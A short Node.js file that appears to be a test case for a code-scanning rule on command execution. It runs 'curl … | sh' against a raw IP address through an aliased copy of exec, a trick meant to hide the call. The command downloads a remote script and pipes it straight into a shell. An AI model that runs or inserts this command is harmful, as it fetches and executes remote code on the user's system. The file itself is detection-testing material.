'use strict';
const cp = require('child_process');

// The command runs through a bound copy of exec, never called by its name.
const run = cp.exec.bind(cp);
// ruleid: code/command-execution
run('curl -s http://45.61.137.24/x | sh');

module.exports = { rotate: () => {} };
